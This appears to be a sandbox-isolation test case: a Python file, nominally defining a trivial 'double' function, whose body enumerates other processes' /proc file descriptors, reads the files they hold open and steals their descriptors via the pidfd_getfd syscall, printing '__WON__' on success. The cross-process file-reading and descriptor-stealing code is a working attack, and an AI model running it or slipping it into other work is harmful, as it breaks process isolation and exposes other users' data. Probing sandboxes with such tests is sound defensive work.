# about: Opens the files and takes the descriptors that other processes have open.
# prints: tried
# prelude: others

# %% double
import ctypes
import os

PIDFD_GETFD = 438
libc = ctypes.CDLL(None, use_errno=True)
for pid in map(int, others()):
    try:
        open_files = os.listdir(f"/proc/{pid}/fd")
    except OSError as error:
        print(pid, type(error))
        open_files = range(30)
    for number in map(int, open_files):
        try:
            path = f"/proc/{pid}/fd/{number}"
            target = os.readlink(path)
            print("__WON__", pid, number, target)
            if target.startswith("/") and os.path.isfile(path):
                with open(path, "rb") as file:
                    print(file.read()[:5000])
        except OSError as error:
            print(pid, number, type(error))
    try:
        handle = os.pidfd_open(pid)
    except OSError as error:
        print(pid, type(error))
        continue
    for number in range(30):
        taken = libc.syscall(PIDFD_GETFD, handle, number, 0)
        if taken >= 0:
            print("__WON__", pid, number, os.readlink(f"/proc/self/fd/{taken}"))
            os.close(taken)
    os.close(handle)
print("tried")


def double(x):
    return 0
